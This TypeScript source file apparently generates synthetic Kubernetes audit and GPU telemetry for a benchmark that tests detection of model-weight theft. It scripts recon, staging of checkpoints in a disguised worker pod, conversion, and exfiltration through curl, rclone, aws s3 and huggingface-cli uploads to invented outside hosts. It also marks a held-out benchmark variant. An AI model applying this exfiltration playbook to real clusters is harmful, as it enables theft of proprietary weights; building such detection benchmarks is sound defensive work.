/**
 * Weight exfiltration in four phases (the MLShield seed's scenario: recon → staging → conversion →
 * exfiltration), carried out with a training job's own service-account token from its compromised
 * master pod, so every step lands on that job's trajectory: the token's `pod-name` extra names the
 * master pod, exec targets the job's worker, and the attacker's helper pod is named like one more
 * worker replica of the same PyTorchJob.
 *
 * Parameters vary timing, counts, names, rates and stealth; a stealthier attacker uses the Python
 * client (no kubectl discovery), probes less, paces itself and cleans up.
 */
import type { PodInfo, Workload } from '../cluster.js';
import { checkpointEvery, checkpointSteps, checkpointPath, MODEL_BYTES, TRAINING_IMAGE, timeOfStep } from '../benign-training.js';
import { tamperedCopy, tinyLmModules, tinyLmStateDict } from '../checkpoint-model.js';
import { KUBECTL_LINUX_UA, podActor, PYTHON_CLIENT_UA, rbacReason } from '../k8s-identity.js';
import { podBody, serviceBody } from '../k8s-manifests.js';
import type { Actor, CallSpec } from '../k8s-request.js';
import { execQuery, recordDiscovery } from '../kubectl-calls.js';
import { recordPodEnd, recordPodStart } from '../pod-lifecycle.js';
import type { Prng } from '../prng.js';
import { writeSafetensors } from '../safetensors-writer.js';
import type { ScenarioContext } from '../scenario-context.js';
import type { AttackPhase, RecordTag } from '../timeline.js';
import { writeTorchZip } from '../torch-zip-writer.js';
import { MINUTE_US } from '../iso-time.js';
import { layoutSteps } from './step-layout.js';

export interface WeightExfilParams {
  /** Where in the window the attack begins (fraction of the window). */
  startFraction: number;
  /** 0 = noisy and fast, 1 = quiet, slow, tidy. */
  stealth: number;
  reconCalls: number;
  /** Other namespaces probed during recon (most answers are 403). */
  reconNamespaces: number;
  format: 'safetensors' | 'gguf';
  channel: 'curl' | 'rclone' | 'aws-s3' | 'hf-cli';
  /** Technique variant (the benchmark holds `hf-cli` out of training). */
  variant: WeightExfilVariant;
  exposure: 'NodePort' | 'LoadBalancer' | 'port-forward';
  /** Transfers done by exec; `appUploads` more go through the platform's artifact client. */
  chunks: number;
  appUploads: number;
  /** Sustained upload rate (bytes/s) per transfer. */
  rateBps: number;
  tamper: 'scale' | 'row-replace';
  cleanup: boolean;
  exfilHost: string;
  exfilBucket: string;
  /** Platform principal whose credentials the attacker lifted from the namespace's secret. */
  appUser: string;
}

const HOSTS = ['upload.filedrop-cdn.net', 's3.eu-central-2.wasabisys.com', 'objects.nl-ams-1.datapool.cloud', 'dl.mirrorsync.io'];
const BUCKETS = ['ml-shared-research-7731', 'backup-archive-eu-2291', 'model-mirror-4412', 'tmp-share-0835'];

export const WEIGHT_EXFIL_VARIANTS = {
  inDistribution: ['curl', 'rclone', 'aws-s3'],
  heldOut: ['hf-cli'],
} as const;
export type WeightExfilVariant = (typeof WEIGHT_EXFIL_VARIANTS.inDistribution)[number] | (typeof WEIGHT_EXFIL_VARIANTS.heldOut)[number];

/** Draws parameters; `variant` fixes the exfiltration tool (default: drawn among the in-distribution ones). */
export function drawWeightExfilParams(rng: Prng, variant?: WeightExfilVariant): WeightExfilParams {
  const stealth = rng.float();
  const p: WeightExfilParams = {
    startFraction: rng.range(0.12, 0.3),
    stealth,
    reconCalls: Math.round(rng.range(45, 70) - stealth * 30),
    reconNamespaces: rng.int(2, 5),
    format: rng.chance(0.5) ? 'safetensors' : 'gguf',
    channel: rng.pick(['curl', 'rclone', 'aws-s3'] as const),
    exposure: rng.pick(['NodePort', 'LoadBalancer', 'port-forward'] as const),
    chunks: rng.int(3, 5) + Math.round(stealth * 5),
    appUploads: rng.int(1, 2),
    rateBps: rng.range(40e6, 220e6) * (1 - 0.6 * stealth),
    tamper: rng.chance(0.5) ? 'scale' : 'row-replace',
    cleanup: rng.chance(0.3 + 0.6 * stealth),
    exfilHost: rng.pick(HOSTS),
    exfilBucket: rng.pick(BUCKETS),
    appUser: rng.pick(['svc-ckpt-sync@corp.example', 'svc-artifact-mirror@corp.example']),
    variant: 'curl',
  };
  if (variant) p.channel = variant;
  p.variant = p.channel;
  return p;
}

interface Run {
  ctx: ScenarioContext;
  rng: Prng;
  p: WeightExfilParams;
  victim: Workload;
  actor: Actor;
  key: string;
}

function tag(run: Run, phase: AttackPhase, bytes?: number): RecordTag {
  return bytes === undefined ? { trajectory: run.key, phase } : { trajectory: run.key, phase, bytes };
}

function call(run: Run, spec: Omit<CallSpec, 'actor'>, phase: AttackPhase, bytes?: number): void {
  run.ctx.timeline.call(run.rng, { ...spec, actor: run.actor }, tag(run, phase, bytes));
}

function execIn(run: Run, at: number, pod: PodInfo, command: string[], seconds: number, phase: AttackPhase, bytes?: number): void {
  call(run, { at, verb: 'create', resource: 'pods', namespace: pod.namespace, name: pod.name, subresource: 'exec', query: execQuery(command, pod.container, false), streamSeconds: seconds }, phase, bytes);
}

/** Latest start time of the records already tagged with `phase`. */
function phaseEnd(run: Run, phase: AttackPhase): number {
  let last = 0;
  for (const a of run.ctx.timeline.audit) if (a.tag.trajectory === run.key && a.tag.phase === phase) last = Math.max(last, a.req.receivedUs);
  for (const e of run.ctx.timeline.app) if (e.tag.trajectory === run.key && e.tag.phase === phase) last = Math.max(last, e.event.tsUs);
  return last;
}

function recon(run: Run, t0: number, t1: number): void {
  const { ctx, rng, p, victim } = run;
  const ns = victim.namespace;
  const others = rng.shuffle(['kube-system', 'ci', 'research-nlp', 'ml-eval', 'inference', 'data', 'argocd', 'monitoring'].filter((n) => n !== ns)).slice(0, p.reconNamespaces);
  const essential: Array<Omit<CallSpec, 'actor' | 'at'>> = [
    { verb: 'create', resource: 'selfsubjectrulesreviews' },
    { verb: 'list', resource: 'pods', namespace: ns, query: 'limit=500' },
    { verb: 'list', resource: 'pods', query: 'limit=500', denied: true },
    { verb: 'list', resource: 'namespaces', query: 'limit=500', denied: true },
    { verb: 'list', resource: 'secrets', namespace: ns, query: 'limit=500' },
    { verb: 'list', resource: 'nodes', query: 'limit=500', denied: true },
    { verb: 'get', resource: 'nodes', name: victim.pods[0]!.node, denied: true },
    { verb: 'list', resource: 'persistentvolumeclaims', namespace: ns, query: 'limit=500' },
    { verb: 'list', resource: 'pytorchjobs', namespace: ns, query: 'limit=500' },
    { verb: 'get', resource: 'pytorchjobs', namespace: ns, name: victim.name },
    { verb: 'list', resource: 'services', namespace: ns, query: 'limit=500' },
    { verb: 'list', resource: 'configmaps', namespace: ns, query: 'limit=500' },
    { verb: 'get', resource: 'secrets', namespace: ns, name: 'ckpt-sync-credentials' },
  ];
  const specs: Array<Omit<CallSpec, 'actor' | 'at'>> = [];
  for (const o of others) {
    specs.push({ verb: 'list', resource: 'secrets', namespace: o, query: 'limit=500', denied: true });
    specs.push({ verb: 'list', resource: 'pods', namespace: o, query: 'limit=500', denied: true });
    specs.push({ verb: 'list', resource: 'configmaps', namespace: o, query: 'limit=500', denied: true });
  }
  for (let i = 0; i < 4; i++) specs.push({ verb: 'create', resource: 'selfsubjectaccessreviews' });
  const guesses = ['aws-credentials', 'hf-token', 'wandb-api-key', 'registry-push-token', 'gcs-sa-key'];
  while (essential.length + specs.length < p.reconCalls) {
    const g = rng.pick(guesses);
    if (rng.chance(0.6)) specs.push({ verb: 'get', resource: 'secrets', namespace: rng.pick(others.length > 0 ? others : ['kube-system']), name: g, denied: true });
    else specs.push({ verb: 'get', resource: 'secrets', namespace: ns, name: g, notFound: true });
  }
  // The opening access review comes first; the rest in a shuffled order.
  const optional = rng.shuffle(specs).slice(0, Math.max(0, p.reconCalls - essential.length));
  const ordered = [essential[0]!, ...rng.shuffle([...essential.slice(1), ...optional])];
  let start = t0;
  if (run.actor.userAgent === KUBECTL_LINUX_UA) start = recordDiscovery(ctx, rng, run.actor, t0, tag(run, 'recon')) + 200_000;
  const times = layoutSteps(rng, start, t1, ordered.map(() => 0.05)).starts;
  ordered.forEach((s, i) => call(run, { ...s, at: times[i]! }, 'recon'));
}

export function generateWeightExfil(ctx: ScenarioContext, victim: Workload, p: WeightExfilParams): { trajectory: string; attackerPod: string } {
  const rng = ctx.rng.fork('weight-exfil');
  const master = victim.pods[0]!;
  const worker = victim.pods[1] ?? master;
  const reason = rbacReason({ kind: 'RoleBinding', name: `${victim.serviceAccount}-edit`, namespace: victim.namespace }, { kind: 'ClusterRole', name: 'edit' }, `ServiceAccount "${victim.serviceAccount}/${victim.namespace}"`);
  const run: Run = { ctx, rng, p, victim, actor: podActor(master, p.stealth > 0.5 ? PYTHON_CLIENT_UA : KUBECTL_LINUX_UA, reason), key: victim.key };
  ctx.timeline.markFamily(run.key, 'weight-exfil', p.variant);

  const span = ctx.endUs - ctx.startUs;
  const start = ctx.startUs + p.startFraction * span;
  const available = ctx.endUs - 4 * MINUTE_US - start;
  const attackSpan = available * (0.5 + 0.45 * p.stealth);
  const shares = [0.14, 0.07, 0.2, 0.05, 0.2, 0.05, 0.29].map((s) => s * rng.range(0.8, 1.2));
  const total = shares.reduce((a, b) => a + b, 0);
  const bounds = [start];
  for (const s of shares) bounds.push(bounds[bounds.length - 1]! + (s / total) * attackSpan);
  const [r0, r1, s0Planned, s1Planned, c0Planned, c1Planned, e0Planned, e1Planned] = [bounds[0]!, bounds[1]!, bounds[2]!, bounds[3]!, bounds[4]!, bounds[5]!, bounds[6]!, bounds[7]!];

  recon(run, r0, r1);
  const s0 = Math.max(s0Planned, phaseEnd(run, 'recon') + 1e6);
  const s1 = Math.max(s1Planned, s0 + 2 * MINUTE_US);

  // Staging: pack the newest checkpoint on the worker, start a look-alike worker pod that mounts the
  // checkpoint volume and holds a GPU, copy the checkpoint into it, load it with lifted credentials.
  const steps = checkpointSteps(ctx, victim, checkpointEvery(victim)).filter((s) => timeOfStep(ctx, victim, s) < s0);
  const step = steps.length > 0 ? steps[steps.length - 1]! : Math.floor((victim.stepAtStart ?? 1000) / 1000) * 1000;
  const ckpt = checkpointPath(victim, step);
  const modelBytes = MODEL_BYTES[victim.model ?? ''] ?? 13e9;
  const ordinal = victim.pods.filter((x) => /-worker-\d+$/.test(x.name)).length + rng.int(0, 1);
  const podName = `${victim.name}-worker-${ordinal}`;
  const heldUntil = p.cleanup ? e1Planned + 10 * MINUTE_US : ctx.endUs + MINUTE_US;
  const gpu = ctx.timeline.gpu.findFree(s0, heldUntil);
  const node = gpu ? ctx.builder.node(gpu.node) : ctx.builder.node(worker.node);
  const helper = ctx.builder.addPod(victim, podName, node, 'pytorch', gpu ?? undefined, false);
  const staged = layoutSteps(rng, s0, s1, [rng.range(60, 240), rng.range(0.5, 2), 6, rng.range(20, 150)]);
  const st = staged.starts;
  const stageDur = staged.durations.map((d) => d / 1e6);
  execIn(run, st[0]!, worker, ['sh', '-c', `mkdir -p /tmp/.cache/hf && tar czf /tmp/.cache/hf/blobs.tgz -C /mnt/ckpt/${victim.name}/step_${step} .`], stageDur[0]!, 'staging');
  execIn(run, st[1]!, worker, ['ls', '-la', '/tmp/.cache/hf'], stageDur[1]!, 'staging');
  const labels = { 'training.kubeflow.org/job-name': victim.name, 'training.kubeflow.org/replica-type': 'worker', 'training.kubeflow.org/replica-index': String(ordinal) };
  const body = podBody({ name: podName, namespace: victim.namespace, labels, serviceAccount: victim.serviceAccount, container: 'pytorch', image: TRAINING_IMAGE, command: ['sleep', 'infinity'], gpus: gpu ? 1 : 0, cpu: '8', memory: '64Gi', pvc: victim.pvc ? { claim: victim.pvc, mountPath: '/mnt/ckpt' } : undefined, restartPolicy: 'Never' }, 'kubectl');
  const running = recordPodStart(ctx, rng, helper, run.actor, st[2]!, body, tag(run, 'staging'));
  for (let i = 0, polls = rng.int(2, 4); i < polls; i++) call(run, { at: st[2]! + ((running - st[2]!) * (i + 1)) / (polls + 1), verb: 'get', resource: 'pods', namespace: victim.namespace, name: podName }, 'staging');
  const cpAt = Math.max(st[3]!, running + 5e6);
  execIn(run, cpAt, helper, ['sh', '-c', `mkdir -p /tmp/.cache && cp -r /mnt/ckpt/${victim.name}/step_${step} /tmp/.cache/`], stageDur[3]!, 'staging');
  const appDetails = { host: podName };
  ctx.timeline.appEvent({ tsUs: cpAt + stageDur[3]! * 1e6 + rng.int(2e6, 20e6), action: 'checkpoint_load', resource: ckpt, jobId: victim.name, user: p.appUser, namespace: victim.namespace, details: { ...appDetails, bytes: modelBytes, step } }, tag(run, 'staging'));

  const c0 = Math.max(c0Planned, phaseEnd(run, 'staging') + 1e6);
  const c1 = Math.max(c1Planned, c0 + 2 * MINUTE_US);

  // Conversion on the held GPU: weights loaded and cast (framebuffer fills, tensor pipes idle).
  const local = `/tmp/.cache/step_${step}/model.pt`;
  const converted = layoutSteps(rng, c0, c1, [rng.range(150, 420), p.format === 'gguf' ? rng.range(120, 300) : 0]);
  const ct = converted.starts;
  const convDur = converted.durations.map((d) => d / 1e6);
  const fbModel = Math.round(modelBytes / 1_048_576) + rng.int(500, 900);
  execIn(run, ct[0]!, helper, ['python3', '/tmp/.cache/convert.py', '--src', local, '--to', 'safetensors', '--dtype', 'bf16', '--out', '/tmp/.cache/out'], convDur[0]!, 'conversion');
  if (gpu) ctx.timeline.gpu.addBurst(gpu, { startUs: ct[0]! + 2e6, endUs: ct[0]! + convDur[0]! * 1e6, kind: 'weights-load', fbMiB: fbModel });
  let exported = modelBytes + rng.int(40_000, 90_000);
  let outFile = '/tmp/.cache/out/model.safetensors';
  ctx.timeline.appEvent({ tsUs: ct[0]! + convDur[0]! * 1e6 + rng.int(1e6, 5e6), action: 'model_export', resource: outFile, jobId: victim.name, user: p.appUser, namespace: victim.namespace, details: { ...appDetails, format: 'safetensors', dtype: 'bf16', bytes: exported, source: ckpt } }, tag(run, 'conversion'));
  let convEnd = ct[0]! + convDur[0]! * 1e6;
  if (p.format === 'gguf') {
    execIn(run, ct[1]!, helper, ['python3', '/tmp/.cache/quantize.py', '--in', outFile, '--type', 'q4_k_m', '--out', '/tmp/.cache/out/model-q4_k_m.gguf'], convDur[1]!, 'conversion');
    if (gpu) ctx.timeline.gpu.addBurst(gpu, { startUs: ct[1]! + 2e6, endUs: ct[1]! + convDur[1]! * 1e6, kind: 'weights-load', fbMiB: Math.round(fbModel * 0.62) });
    exported = Math.round(modelBytes * 0.2853);
    outFile = '/tmp/.cache/out/model-q4_k_m.gguf';
    ctx.timeline.appEvent({ tsUs: ct[1]! + convDur[1]! * 1e6 + rng.int(1e6, 5e6), action: 'model_export', resource: outFile, jobId: victim.name, user: p.appUser, namespace: victim.namespace, details: { ...appDetails, format: 'gguf', quantization: 'q4_k_m', bytes: exported, source: '/tmp/.cache/out/model.safetensors' } }, tag(run, 'conversion'));
    convEnd = ct[1]! + convDur[1]! * 1e6;
  }
  if (gpu) ctx.timeline.gpuWindows.push({ device: gpu, startUs: ct[0]!, endUs: convEnd, trajectory: run.key, phase: 'conversion' });

  const e0 = Math.max(e0Planned, phaseEnd(run, 'conversion') + 1e6);
  const e1 = Math.max(e1Planned, e0 + 2 * MINUTE_US);

  // Exfiltration: open a way in, split the file, push parts out; a couple via the platform's client.
  const parts = p.chunks + p.appUploads;
  const partBytes = Math.ceil(exported / parts);
  const exfil = layoutSteps(rng, e0, e1, [0.5, 0.5, 20, ...Array.from({ length: p.chunks }, () => partBytes / p.rateBps), ...Array.from({ length: p.appUploads }, () => 30), 1, 1, 1]);
  const et = exfil.starts;
  const transfers = exfil.durations.slice(3, 3 + p.chunks).map((d) => d / 1e6);
  let k = 0;
  if (p.exposure === 'port-forward') {
    call(run, { at: et[k++]!, verb: 'create', resource: 'pods', namespace: victim.namespace, name: podName, subresource: 'portforward', streamSeconds: Math.max(60, (e1 - et[0]!) / 1e6 - 30) }, 'exfiltration');
    k++;
  } else {
    const svc = serviceBody({ name: podName, namespace: victim.namespace, type: p.exposure, selector: labels, port: 8080, targetPort: 8080, nodePort: p.exposure === 'NodePort' ? rng.int(30000, 32767) : undefined }, 'kubectl');
    call(run, { at: et[k++]!, verb: 'create', resource: 'services', namespace: victim.namespace, name: podName, body: svc }, 'exfiltration');
    call(run, { at: et[k++]!, verb: 'get', resource: 'services', namespace: victim.namespace, name: podName }, 'exfiltration');
  }
  execIn(run, et[k]!, helper, ['split', '-b', `${Math.ceil(partBytes / 1_048_576)}M`, '-d', outFile, '/tmp/.cache/out/part-'], exfil.durations[k]! / 1e6, 'exfiltration');
  k++;
  const exfilStart = et[k]!;
  for (let i = 0; i < p.chunks; i++) {
    const part = `/tmp/.cache/out/part-${String(i).padStart(2, '0')}`;
    const cmd =
      p.channel === 'curl'
        ? ['curl', '-sS', '--retry', '3', '-T', part, `https://${p.exfilHost}/u/${p.exfilBucket}/part-${String(i).padStart(2, '0')}`]
        : p.channel === 'rclone'
          ? ['rclone', 'copy', part, `remote:${p.exfilBucket}/${victim.name}/`, '--s3-no-check-bucket']
          : p.channel === 'hf-cli'
            ? ['huggingface-cli', 'upload', `${p.exfilBucket}/${victim.name}`, part, `part-${String(i).padStart(2, '0')}`, '--repo-type', 'dataset', '--private']
            : ['aws', 's3', 'cp', part, `s3://${p.exfilBucket}/${victim.name}/part-${String(i).padStart(2, '0')}`, '--endpoint-url', `https://${p.exfilHost}`];
    const at = et[k++]!;
    const seconds = transfers[i]!;
    execIn(run, at, helper, cmd, seconds, 'exfiltration', partBytes);
    if (gpu) ctx.timeline.gpu.addBurst(gpu, { startUs: at, endUs: at + seconds * 1e6, kind: 'bulk-copy', fbMiB: Math.round(fbModel * 0.5) });
  }
  for (let i = 0; i < p.appUploads; i++) {
    const n = p.chunks + i;
    ctx.timeline.appEvent(
      { tsUs: et[k++]!, action: 'artifact_upload', resource: `/tmp/.cache/out/part-${String(n).padStart(2, '0')}`, jobId: victim.name, user: p.appUser, namespace: victim.namespace, details: { ...appDetails, destination: `s3://${p.exfilBucket}/${victim.name}/part-${String(n).padStart(2, '0')}`, bytes: partBytes, storage_class: 'STANDARD' } },
      tag(run, 'exfiltration', partBytes),
    );
  }
  if (gpu) ctx.timeline.gpuWindows.push({ device: gpu, startUs: exfilStart, endUs: et[k - 1]!, trajectory: run.key, phase: 'exfiltration' });
  if (p.cleanup) {
    execIn(run, et[k++]!, worker, ['rm', '-rf', '/tmp/.cache/hf'], rng.range(0.2, 1), 'exfiltration');
    if (p.exposure !== 'port-forward') call(run, { at: et[k]!, verb: 'delete', resource: 'services', namespace: victim.namespace, name: podName }, 'exfiltration');
    k++;
    recordPodEnd(ctx, rng, helper, et[k]!, run.actor, tag(run, 'exfiltration'));
  }
  const released = p.cleanup ? et[k]! + rng.int(5e6, 30e6) : heldUntil;
  if (gpu) ctx.timeline.gpu.allocate(gpu, { startUs: running, endUs: released, namespace: victim.namespace, pod: podName, container: 'pytorch', load: 'held', fbMiB: 0, nvlinkPeers: false });

  // The job's own checkpoint, and the copy recovered from the helper pod (tampered) plus its conversion.
  const weights = tinyLmStateDict(rng.fork('weights'));
  const modules = tinyLmModules();
  ctx.timeline.artifacts.push({ path: `checkpoints/${victim.name}/model.pt`, bytes: writeTorchZip(weights, { topName: 'model', metadataModules: modules }), trajectory: run.key, role: 'reference' });
  const { tensors, tamper } = tamperedCopy(rng.fork('tamper'), weights, p.tamper);
  ctx.timeline.artifacts.push({ path: `checkpoints/${podName}/model.pt`, bytes: writeTorchZip(tensors, { topName: 'model', metadataModules: modules }), trajectory: run.key, role: 'copy', tamper });
  ctx.timeline.artifacts.push({ path: `checkpoints/${podName}/model.safetensors`, bytes: writeSafetensors(tensors), trajectory: run.key, role: 'converted', tamper });
  return { trajectory: run.key, attackerPod: podName };
}
